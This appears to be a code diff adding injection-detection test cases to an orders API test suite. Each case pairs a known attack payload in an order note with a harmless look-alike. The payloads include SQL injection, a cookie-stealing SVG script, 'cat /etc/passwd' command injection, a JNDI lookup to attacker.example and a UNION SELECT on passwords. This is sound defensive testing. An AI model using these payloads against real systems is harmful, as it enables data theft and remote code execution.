@@ -200,6 +200,30 @@ public final class OrdersApiDrill implements DrillSuite {
         c.add(DrillCase.of("another caller during the flood", Expect.allow(201), validFrom("patient-caller"))
                 .withEnvironment(DECLARED_BUDGET));
         authCases(c);
+        // injection detection on every string (note above all): each detector on a real payload, and a look-alike passing
+        c.add(DrillCase.of("note: SQL injection (sqlmap boolean)", Expect.deny(400, "INJECTION_SQL"),
+                v2(order("1' AND 5678=5678 AND 'abc'='abc"))));
+        c.add(DrillCase.of("note: look-alike \"O'Brien, select a size\"", Expect.allow(201),
+                v2(order("O'Brien, select a size"))));
+        c.add(DrillCase.of("note: script (svg onload)", Expect.deny(400, "INJECTION_XSS"),
+                v2(order("<svg/onload=alert(document.cookie)>"))));
+        c.add(DrillCase.of("note: look-alike \"size < 5 and > 3\"", Expect.allow(201),
+                v2(order("size < 5 and > 3 please"))));
+        c.add(DrillCase.of("note: command injection", Expect.deny(400, "INJECTION_COMMAND"),
+                v2(order("door; cat /etc/passwd"))));
+        c.add(DrillCase.of("note: look-alike \"Tom & Jerry; ring twice\"", Expect.allow(201),
+                v2(order("Tom & Jerry; ring twice"))));
+        c.add(DrillCase.of("note: template / JNDI lookup", Expect.deny(400, "INJECTION_TEMPLATE"),
+                v2(order("${jndi:ldap://attacker.example/a}"))));
+        c.add(DrillCase.of("note: look-alike \"costs $5 {approx}\"", Expect.allow(201),
+                v2(order("costs $5 {approx}"))));
+        c.add(DrillCase.of("note: double URL-encoded SQL", Expect.deny(400, "INJECTION_SQL"),
+                v2(order("x%2527%2520OR%25201%253D1--"))));
+        c.add(DrillCase.of("query parameter: UNION SELECT", Expect.deny(400, "INJECTION_SQL"), v2(e -> {
+            body(e, VALID);
+            ((ObjectNode) e.with("queryStringParameters")).put("ref", "1 UNION SELECT password FROM users");
+            e.put("rawQueryString", "ref=1%20UNION%20SELECT%20password%20FROM%20users");
+        })));
         return c;
     }
 
@@ -259,5 +283,13 @@ public final class OrdersApiDrill implements DrillSuite {
             sb.append(",\"k").append(i).append("\":1");
         }
         return sb.append('}').toString();
+    }
+
+    private static String order(String note) {
+        return "{\"sku\":\"ABC-123\",\"quantity\":1,\"note\":" + quote(note) + ",\"email\":\"ana@example.com\"}";
+    }
+
+    private static String quote(String s) {
+        return "\"" + s.replace("\\", "\\\\").replace("\"", "\\\"") + "\"";
     }
 }
